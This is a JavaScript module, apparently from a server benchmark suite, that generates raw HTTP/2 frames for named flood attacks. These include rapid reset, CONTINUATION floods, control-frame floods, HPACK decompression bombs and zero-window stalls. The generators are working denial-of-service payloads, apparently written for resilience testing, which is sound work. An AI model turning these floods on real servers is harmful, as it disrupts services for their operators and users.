// What each flood of bench/floods.mjs sends: from a maker of frames, a function from a frame's number to its bytes; null: no more.
const type = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, windowUpdate: 8, continuation: 9, priorityUpdate: 16, unknown: 0x77 };
const endStream = 1;
const endHeaders = 4;

function uint32(value) {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
/** A field without the tables. */
const field = (name, value) => Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
const request = (host, method = 'GET') => Buffer.concat([field(':method', method), field(':scheme', 'https'), field(':authority', host), field(':path', '/1')]);
const nothing = Buffer.alloc(0);
/** Streams that a request opens, from the number of the frame. */
const odd = (i) => 2 * i + 1;

/** A block that is small on the wire and 12 MB if anybody wrote it out: one long field in the table, named 3,000 times. */
const bomb = (host) => Buffer.concat([request(host), Buffer.from([0x40, 1, 0x61, 0x7f, 0x81, 0x1e]), Buffer.alloc(3968, 'x'), Buffer.alloc(3000, 0xbe)]);

export const floods = {
  'rapid reset': (frame, host) => (i) => (i % 2 === 0 ? frame(type.headers, endStream | endHeaders, odd(i / 2), request(host)) : frame(type.reset, 0, odd((i - 1) / 2), uint32(8))),
  'resets by us': (frame, host) => (i) => (i % 2 === 0 ? frame(type.headers, endHeaders, odd(i / 2), request(host, 'POST')) : frame(type.windowUpdate, 0, odd((i - 1) / 2), uint32(0))),
  'CONTINUATION': (frame) => (i) => frame(i === 0 ? type.headers : type.continuation, 0, 1, nothing),
  'long CONTINUATION': (frame) => (i) => frame(i === 0 ? type.headers : type.continuation, 0, 1, Buffer.alloc(16_384, 'x')),
  'SETTINGS': (frame) => () => frame(type.settings, 0, 0, nothing),
  'PING': (frame) => () => frame(type.ping, 0, 0, Buffer.alloc(8)),
  'empty DATA': (frame, host) => (i) => (i === 0 ? frame(type.headers, endHeaders, 1, request(host, 'POST')) : frame(type.data, 0, 1, nothing)),
  'unknown frames': (frame) => () => frame(type.unknown, 0, 0, nothing),
  'PRIORITY_UPDATE': (frame) => (i) => frame(type.priorityUpdate, 0, 0, uint32(odd(i % 1_000_000))),
  'WINDOW_UPDATE': (frame) => () => frame(type.windowUpdate, 0, 0, uint32(1)),
  'HPACK bombs': (frame, host) => (i) => frame(type.headers, endStream | endHeaders, odd(i), bomb(host)),
  'shut windows': (frame, host) => (i) => (i === 0 ? frame(type.settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), uint32(0)])) : i <= 128 ? frame(type.headers, endStream | endHeaders, odd(i), request(host)) : null),
};
